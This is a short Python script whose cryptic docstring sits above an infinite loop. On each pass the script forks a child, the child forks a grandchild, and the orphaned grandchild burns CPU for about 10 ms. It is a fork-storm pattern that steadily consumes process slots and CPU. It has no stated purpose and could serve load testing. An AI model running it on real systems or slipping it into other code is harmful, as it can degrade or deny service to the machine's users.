"""Lets grandchildren work for it that nobody waits for, a little each, so that no one is slow."""

import os
import time

while True:
    if os.fork() == 0:
        if os.fork() == 0:
            end = time.process_time() + 0.01
            while time.process_time() < end:
                pass
        os._exit(0)
    os.wait()
